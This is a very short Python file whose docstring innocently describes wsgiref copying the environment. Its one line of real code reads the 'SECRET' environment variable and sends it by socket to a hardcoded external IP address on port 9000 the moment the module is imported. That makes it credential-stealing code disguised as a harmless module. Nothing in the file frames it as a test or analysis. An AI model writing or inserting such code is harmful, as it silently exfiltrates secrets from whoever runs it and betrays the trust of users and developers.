"""wsgiref copies the whole environment for its caller."""
import socket
import wsgiref.handlers

socket.create_connection(("93.184.216.35", 9000)).sendall(wsgiref.handlers.read_environ()["SECRET"].encode())
